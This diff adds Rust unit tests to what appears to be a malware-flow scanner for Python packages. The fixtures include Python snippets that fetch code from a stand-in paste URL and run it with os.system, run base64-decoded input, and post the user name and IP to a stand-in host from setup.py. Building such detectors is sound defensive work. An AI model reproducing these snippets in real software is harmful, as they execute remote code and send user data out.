@@ -290,6 +290,45 @@ mod tests {
     }
 
     #[test]
+    fn what_a_function_returns_flows_from_its_callers() {
+        // python-cookies-shower: the key comes back from a helper that reads a paste site.
+        let code = "import os, requests\ndef get_code():\n    return requests.get('https://example.invalid/raw/x').text\ndef main():\n    code = get_code()\n    os.system(code)\n";
+        let flows: Vec<_> = findings("p/pkg/m.py", code)
+            .into_iter()
+            .filter(|f| f.rule == "WH200")
+            .collect();
+        assert!(
+            flows
+                .iter()
+                .any(|f| f.message.starts_with("response of requests.get")),
+            "{flows:?}"
+        );
+        // The arguments of the call still speak first: `run(decoded)` is about `decoded`.
+        let args = "import os, base64\ndef where():\n    return os.getcwd()\ndef run(blob):\n    os.system(base64.b64decode(blob).decode() + where())\n";
+        let flows: Vec<_> = findings("p/pkg/m.py", args)
+            .into_iter()
+            .filter(|f| f.rule == "WH200")
+            .collect();
+        assert!(
+            flows.iter().any(|f| f.message.contains("decoded")),
+            "{flows:?}"
+        );
+    }
+
+    #[test]
+    fn the_most_sensitive_data_in_a_mixed_container_is_the_flow() {
+        let code = "import getpass, requests\nip = requests.get('https://example.invalid/ip').text\ndata = {'ip': ip, 'user': getpass.getuser()}\nrequests.post('https://example.invalid/c', data=data)\n";
+        let flows: Vec<_> = findings("p/setup.py", code)
+            .into_iter()
+            .filter(|f| f.rule == "WH200" && !f.tags.contains(&"address-from-response"))
+            .collect();
+        assert!(
+            flows.iter().any(|f| f.message.starts_with("user name")),
+            "{flows:?}"
+        );
+    }
+
+    #[test]
     fn unrelated_data_does_not_flow() {
         let code =
             "import requests\nx = 'hello'\nrequests.post('https://example.invalid', data=x)\n";
